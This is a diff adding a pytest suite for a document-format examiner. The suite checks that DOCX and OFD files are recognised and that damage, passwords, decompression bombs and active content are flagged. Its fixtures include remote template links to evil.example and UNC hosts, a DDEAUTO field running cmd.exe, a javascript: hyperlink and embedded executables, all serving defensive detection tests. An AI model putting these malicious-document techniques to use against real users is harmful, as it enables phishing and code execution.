@@ -1,0 +1,363 @@
+from __future__ import annotations
+
+import io
+import struct
+import tracemalloc
+import zipfile
+
+import pytest
+
+from chalicelib.formats.examine import examine
+from chalicelib.formats.verdict import Active, Fault, Verdict
+from infra.local.samples import archive, docx, ofd
+from tests.formats.made import compound, links, package, unpacked, word
+
+WORD, OFD = Verdict("docx"), Verdict("ofd")
+FIELD = (
+    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
+    "{}</w:p></w:body></w:document>"
+)
+
+
+def acts(what: Active) -> Verdict:
+    return Verdict("docx", Fault.ACTIVE, what)
+
+
+def entry_changed(content: bytes, name: str, at: int, byte: int) -> bytes:
+    """A zip one of whose entries has another byte than its sum says."""
+    with zipfile.ZipFile(io.BytesIO(content)) as opened:
+        entry = opened.getinfo(name)
+    start = entry.header_offset + 30 + len(name.encode()) + at
+    return content[:start] + bytes([byte]) + content[start + 1 :]
+
+
+# --- documents of other makers -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        docx(),
+        word(
+            renamed={"word/document.xml": "word/document2.xml"},
+            swaps=[("word/document.xml", "word/document2.xml")],
+        ),
+        word(
+            renamed={"word/document.xml": "content/main.xml"},
+            swaps=[("word/document.xml", "content/main.xml")],
+        ),
+        word(renamed={"word/document.xml": "word\\document.xml", "_rels/.rels": "_rels\\.rels"}),
+        word(
+            renamed={"word/document.xml": "Word/Document.xml", "[Content_Types].xml": "[content_types].xml"}
+        ),
+        word(swaps=[("word/document.xml", "/word/document.xml"), ('PartName="//', 'PartName="/')]),
+        word(
+            swaps=[
+                (
+                    "http://schemas.openxmlformats.org/officeDocument/2006/",
+                    "http://purl.oclc.org/ooxml/officeDocument/",
+                ),
+                (
+                    "http://schemas.openxmlformats.org/wordprocessingml/2006/",
+                    "http://purl.oclc.org/ooxml/wordprocessingml/",
+                ),
+            ]
+        ),
+        word(renamed={"word/document.xml": "word/./document.xml"}),
+        word({"mimetype": "anything", "docProps/": ""}),
+    ],
+    ids=["ours", "document2", "folder", "backslashes", "case", "absolute", "strict", "dot", "more"],
+)
+def test_the_main_part_is_what_the_package_says_it_is(content: bytes) -> None:
+    assert examine(content) == WORD
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        ofd(),
+        package({name.replace("OFD.xml", "ofd.xml"): each for name, each in unpacked(ofd()).items()}),
+        package({name.replace("/", "\\"): each for name, each in unpacked(ofd()).items()}),
+        package(
+            {
+                name: each.replace(b"Doc_0/Document", b"/Doc_0/Document")
+                for name, each in unpacked(ofd()).items()
+            }
+        ),
+        package({name: each.replace(b"ofd:", b"") for name, each in unpacked(ofd()).items()}),
+        package(
+            {**unpacked(ofd()), "Doc_0/Attachs/original_invoice.xml": "<a/>", "Doc_0/Res/f.otf": b"OTTO"}
+        ),
+    ],
+    ids=["ours", "case", "backslashes", "absolute", "no prefix", "attachment"],
+)
+def test_an_ofd_of_any_maker_is_taken(content: bytes) -> None:
+    assert examine(content) == OFD
+
+
+PARTS = "application/vnd.openxmlformats-officedocument."
+
+
+@pytest.mark.parametrize(
+    ("swap", "kind"),
+    [
+        (("wordprocessingml.document", "spreadsheetml.sheet"), "xlsx"),
+        (("wordprocessingml.document", "presentationml.presentation"), "pptx"),
+        (("wordprocessingml.document", "wordprocessingml.template"), "dotx"),
+        (
+            (PARTS + "wordprocessingml.document.main", "application/vnd.ms-word.document.macroEnabled.main"),
+            "docm",
+        ),
+        (
+            (PARTS + "wordprocessingml.document.main", "application/vnd.ms-excel.sheet.macroEnabled.main"),
+            "xlsx",
+        ),
+    ],
+)
+def test_other_office_documents_are_told_as_what_they_are(swap: tuple[str, str], kind: str) -> None:
+    assert examine(word(swaps=[swap])) == Verdict(kind)
+
+
+@pytest.mark.parametrize(
+    ("content", "kind"),
+    [
+        (package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}), "odt"),
+        (package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "ods"),
+        (package({"mimetype": "application/vnd.oasis.opendocument.presentation"}), "odp"),
+        (package({"mimetype": "application/epub+zip"}), "epub"),
+        (package({"META-INF/MANIFEST.MF": "", "A.class": b"\xca\xfe\xba\xbe"}), "program"),
+        (package({"Index/Document.iwa": b"\x00"}), "iwork"),
+        (package({"a.pdf": "x", "b.jpg": "y"}), "zip"),
+        (package({}), "zip"),
+        (archive(), "zip"),
+        (compound("WordDocument", "1Table"), "doc"),
+        (compound("Workbook"), "xls"),
+        (compound("Book", "x" * 20), "xls"),
+        (compound("Current User", "PowerPoint Document"), "ppt"),
+        (compound("__properties_version1.0"), "eml"),
+        (compound("something else"), "ole"),
+        (compound(*[f"stream {n}" for n in range(20)], "WordDocument"), "doc"),
+        (compound("WordDocument")[:600], "ole"),
+    ],
+)
+def test_archives_and_old_documents_are_told_as_what_they_are(content: bytes, kind: str) -> None:
+    assert examine(content) == Verdict(kind)
+
+
+# --- whether they are whole ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("make", [docx, ofd, archive])
+def test_a_package_cut_off_anywhere_is_damaged(make: object) -> None:
+    content = make()  # type: ignore[operator]
+    for length in range(4, len(content)):
+        assert examine(content[:length]).fault is Fault.DAMAGED, length
+
+
+@pytest.mark.parametrize(
+    ("content", "kind"),
+    [
+        (package({**unpacked(docx()), "word/document.xml": "<w:document"}), "docx"),
+        (package({**unpacked(docx()), "word/document.xml": "<html/>"}), "docx"),
+        (
+            package(
+                {
+                    **unpacked(docx()),
+                    "word/document.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><document>&b;</document>",
+                }
+            ),
+            "docx",
+        ),
+        (package({n: each for n, each in unpacked(docx()).items() if n != "word/document.xml"}), "docx"),
+        (package({**unpacked(ofd()), "OFD.xml": "<OFD/>"}), "ofd"),
+        (package({**unpacked(ofd()), "OFD.xml": "not xml"}), "ofd"),
+        (package({n: each for n, each in unpacked(ofd()).items() if n != "Doc_0/Document.xml"}), "ofd"),
+        (entry_changed(docx(), "word/document.xml", 5, 0), "docx"),
+        (entry_changed(ofd(), "Doc_0/Document.xml", 5, 0), "ofd"),
+        (word({"WORD/document.xml": "<document/>"}), None),
+        (package({"[Content_Types].xml": "demonstration", "word/document.xml": "demonstration"}), None),
+    ],
+)
+def test_a_document_that_lacks_what_it_names_or_whose_sums_are_wrong_is_damaged(
+    content: bytes, kind: str | None
+) -> None:
+    assert examine(content) == Verdict(kind, Fault.DAMAGED)
+
+
+# --- passwords -----------------------------------------------------------------------------------
+
+
+def locked(content: bytes) -> bytes:
+    """A zip whose entries are marked as encrypted, in both of their places."""
+    changed = bytearray(content)
+    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = changed.find(mark)
+        while at >= 0:
+            changed[at + place] |= 1
+            at = changed.find(mark, at + 4)
+    return bytes(changed)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        locked(docx()),
+        locked(ofd()),
+        compound("EncryptionInfo", "EncryptedPackage"),
+        compound("DataSpaces", *[f"s{n}" for n in range(9)], "EncryptedPackage"),
+        package({"OFD.xml": "<x/>", "Encryptions.xml": "<x/>", "DecryptSeed.dat": b"\x00"}),
+    ],
+    ids=["docx", "ofd", "office", "office, long directory", "encrypted ofd"],
+)
+def test_a_document_that_asks_for_a_password_is_refused_as_such(content: bytes) -> None:
+    assert examine(content).fault is Fault.PASSWORD
+
+
+# --- what acts -----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("changed", "what"),
+    [
+        ({"word/vbaProject.bin": b"\xd0\xcf"}, Active.MACROS),
+        ({"word/_rels/document.xml.rels": links("vbaProject code.bin")}, Active.MACROS),
+        ({"word/_rels/document.xml.rels": links("oleObject embeddings/oleObject1.bin")}, Active.OBJECT),
+        (
+            {"word/_rels/document.xml.rels": links("oleObject http://evil.example/a.doc External")},
+            Active.OBJECT,
+        ),
+        ({"word/embeddings/oleObject1.bin": b"\x01"}, Active.OBJECT),
+        ({"word/embeddings/a.docx": docx()}, Active.OBJECT),
+        ({"word/_rels/document.xml.rels": links("package embeddings/a.xlsx")}, Active.OBJECT),
+        ({"word/activeX/activeX1.xml": "<a/>"}, Active.OBJECT),
+        ({"word/_rels/document.xml.rels": links("control activeX/activeX1.xml")}, Active.OBJECT),
+        ({"word/_rels/document.xml.rels": links("aFChunk afchunk.mht")}, Active.EMBEDDED),
+        (
+            {"word/_rels/settings.xml.rels": links("attachedTemplate http://evil.example/t.dotm External")},
+            Active.EXTERNAL,
+        ),
+        (
+            {"word/_rels/settings.xml.rels": links("attachedTemplate \\\\evil\\t.dotm External")},
+            Active.EXTERNAL,
+        ),
+        (
+            {"word/_rels/settings.xml.rels": links("attachedTemplate file://evil/t.dotm External")},
+            Active.EXTERNAL,
+        ),
+        (
+            {"word/_rels/settings.xml.rels": links("attachedTemplate file:///\\\\evil\\t.dotm External")},
+            Active.EXTERNAL,
+        ),
+        (
+            {"word/_rels/document.xml.rels": links("image https://evil.example/spy.png External")},
+            Active.EXTERNAL,
+        ),
+        ({"word/_rels/header1.xml.rels": links("frame //evil.example/a.htm External")}, Active.EXTERNAL),
+        ({"word/_rels/document.xml.rels": links("hyperlink javascript:alert(1) External")}, Active.SCRIPT),
+        ({"word/media/image1.png": b"MZ\x90\x00"}, Active.EMBEDDED),
+        ({"docs/run.vbs": "x"}, Active.EMBEDDED),
+        ({"word/page.html": "<script>"}, Active.EMBEDDED),
+        (
+            {"word/document.xml": FIELD.format("<w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe \"/k\"'/>")},
+            Active.ACTION,
+        ),
+        (
+            {
+                "word/document.xml": FIELD.format(
+                    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
+                    "<w:r><w:instrText>EAUTO excel</w:instrText></w:r>"
+                )
+            },
+            Active.ACTION,
+        ),
+    ],
+)
+def test_what_a_word_document_runs_or_loads_or_hides_is_found(
+    changed: dict[str, bytes | str], what: Active
+) -> None:
+    assert examine(word(changed)) == acts(what)
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"word/_rels/document.xml.rels": links("hyperlink https://www.gov.cn External", "image media/a.png")},
+        {
+            "word/_rels/settings.xml.rels": links(
+                "attachedTemplate file:///C:\\Users\\a\\Normal.dotm External"
+            )
+        },
+        {"word/_rels/settings.xml.rels": links("attachedTemplate Normal.dotm External")},
+        {
+            "word/charts/_rels/chart1.xml.rels": links("package ../embeddings/Microsoft_Excel_Sheet.xlsx"),
+            "word/embeddings/Microsoft_Excel_Sheet.xlsx": package({"[Content_Types].xml": "<Types/>"}),
+        },
+        {"word/document.xml": FIELD.format('<w:fldSimple w:instr="HYPERLINK &quot;http://a.cn/dde&quot;"/>')},
+        {"word/document.xml": FIELD.format("<w:r><w:t>DDE and INCLUDETEXT are words, too</w:t></w:r>")},
+        {"word/fonts/font1.odttf": b"MZ by chance"},
+        {"customXml/item1.xml": "<a/>", "docProps/thumbnail.jpeg": b"\xff\xd8\xff"},
+    ],
+)
+def test_what_ordinary_documents_have_is_taken(changed: dict[str, bytes | str]) -> None:
+    assert examine(word(changed)) == WORD
+
+
+def test_the_workbook_of_a_chart_may_have_no_macros() -> None:
+    book = package({"[Content_Types].xml": "<Types/>", "xl/vbaProject.bin": b"\x00"})
+    assert examine(word({"word/embeddings/book.xlsx": book})) == acts(Active.MACROS)
+
+
+def test_a_program_in_an_ofd_is_found() -> None:
+    content = package({**unpacked(ofd()), "Doc_0/Attachs/a.dat": b"MZ\x90\x00"})
+    assert examine(content) == Verdict("ofd", Fault.ACTIVE, Active.EMBEDDED)
+
+
+# --- bounds --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        word({"word/media/image1.bmp": bytes(20 << 20)}),
+        word({f"word/media/image{n}.bmp": bytes(7 << 20) for n in range(40)}),
+        word({"word/_rels/document.xml.rels": b"<a>" + b" " * (5 << 20)}),
+        word({"word/document.xml": FIELD.format(" " * (9 << 20))}),
+    ],
+    ids=["one entry", "many entries", "links", "text"],
+)
+def test_what_unpacks_to_far_more_than_a_document_is_too_much(content: bytes) -> None:
+    assert len(content) < 1 << 20
+    assert examine(content) == Verdict("docx", Fault.TOO_COMPLEX)
+
+
+def test_unpacking_keeps_nothing_in_memory() -> None:
+    content = word({f"word/media/image{n}.bmp": bytes(7 << 20) for n in range(10)})
+    examine(content)
+    tracemalloc.start()
+    assert examine(content) == WORD
+    _, most = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert most < 4 << 20
+
+
+def test_a_zip_with_an_endless_list_of_names_costs_little_memory() -> None:
+    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, *[0] * 4, 0, 0, 0, 1, *[0] * 6) + b"a"
+    listed = entry * 200_000
+    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(listed), 4, 0)
+    crowded = b"PK\x03\x04" + listed + end
+    tracemalloc.start()
+    verdict = examine(crowded)
+    _, most = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert verdict == Verdict(None, Fault.DAMAGED)
+    assert most < len(crowded) + (4 << 20)
+
+
+def test_a_zip_of_a_later_standard_is_damaged() -> None:
+    content = bytearray(ofd())
+    content[content.rfind(b"PK\x01\x02") + 6] = 200
+    assert examine(bytes(content)).fault is Fault.DAMAGED
+
+
+def test_an_entry_packed_in_a_way_that_office_programs_do_not_know_is_damaged() -> None:
+    assert examine(package(unpacked(docx()), zipfile.ZIP_LZMA)).fault is Fault.DAMAGED
